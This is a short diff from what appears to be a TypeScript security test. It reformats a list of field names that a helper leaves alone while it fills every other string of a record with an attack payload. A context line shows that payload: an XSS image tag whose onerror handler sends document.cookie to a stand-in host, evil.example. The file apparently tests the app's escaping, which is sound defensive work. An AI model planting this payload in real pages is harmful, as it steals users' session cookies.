@@ -55,7 +55,22 @@ const ATTACK = `<img src=x onerror="fetch('https://evil.example/'+document.cooki
 
 /** Every string of a record replaced by the attack, but for names that the app itself gives meaning to. */
 function hostile<T>(value: T, name = ""): T {
-  const meant = ["kind", "format", "id", "documentId", "at", "created", "updated", "memorizedAt", "read", "preset", "column", "bound", "outcome", "study"]; // prettier-ignore
+  const meant = [
+    "kind",
+    "format",
+    "id",
+    "documentId",
+    "at",
+    "created",
+    "updated",
+    "memorizedAt",
+    "read",
+    "preset",
+    "column",
+    "bound",
+    "outcome",
+    "study",
+  ];
   if (typeof value === "string") return (meant.includes(name) ? value : ATTACK) as T;
   if (Array.isArray(value)) return value.map((item) => hostile(item as unknown, name)) as T;
   if (typeof value !== "object" || value === null) return value;
